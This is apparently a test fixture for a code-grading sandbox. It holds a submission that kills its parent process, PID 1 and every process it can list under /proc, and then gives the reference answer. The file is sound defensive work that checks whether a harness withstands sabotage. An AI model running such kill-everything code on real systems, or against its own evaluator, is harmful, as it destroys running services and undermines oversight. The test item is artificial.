"""Signals its parent, process 1, every process, and every pid it can see; then answers correctly."""
# expect: full
import keras
import numpy as np
import tensorflow as tf

# {{REFERENCE}}


import os
import signal

for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
